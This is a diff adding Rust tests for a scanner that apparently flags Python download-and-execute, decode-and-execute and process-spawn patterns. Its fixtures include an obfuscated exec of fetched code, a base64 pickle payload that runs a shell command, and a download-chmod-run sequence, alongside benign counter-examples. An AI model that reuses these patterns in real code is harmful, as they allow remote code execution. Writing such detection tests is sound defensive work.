@@ -401,6 +401,13 @@ def receive(message):
         "{:?}",
         details(local)
     );
+    // A response pickled and unpickled again (a round-trip test) is local data.
+    let round_trip = "import pickle, requests\nr = requests.get(URL)\nr2 = pickle.loads(pickle.dumps(r))\n";
+    assert!(
+        !kinds(round_trip).contains(&K::DownloadExecute),
+        "{:?}",
+        details(round_trip)
+    );
     let blob = "import pickle, base64\nobj = pickle.loads(base64.b64decode('gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=='))\n";
     assert!(kinds(blob).contains(&K::DecodeExecute), "{:?}", details(blob));
 }
@@ -566,4 +573,34 @@ _ns["ex" "ec"](__import__("urllib.request", fromlist=["x"]).urlopen(U).read())
     let d = details(plain);
     assert!(has(&d, "ProcessSpawn", "os.system(): id"), "{d:?}");
     assert!(!d.iter().any(|x| x.starts_with("DecodeExecute")), "{d:?}");
+}
+
+#[test]
+fn a_run_before_a_download_is_written_or_of_another_file_is_not_its_execution() {
+    let src = r#"
+import subprocess, urllib.request
+def fetch(url):
+    subprocess.run(["git", "fetch"])
+    data = urllib.request.urlopen(url).read()
+    with open("archive.zip", "wb") as f:
+        f.write(data)
+    subprocess.run(["ninja"], cwd="build")
+"#;
+    assert!(
+        !kinds(src).contains(&K::DownloadExecute),
+        "{:?}",
+        details(src)
+    );
+    let src = r#"
+import os, subprocess, urllib.request
+def fetch(url):
+    data = urllib.request.urlopen(url).read()
+    with open("tool.bin", "wb") as f:
+        f.write(data)
+    os.chmod("tool.bin", 0o755)
+    subprocess.run(["./tool.bin", "--quiet"])
+"#;
+    let d = details(src);
+    assert!(has(&d, "DownloadExecute", "made executable"), "{d:?}");
+    assert!(has(&d, "DownloadExecute", "run with subprocess.run()"), "{d:?}");
 }
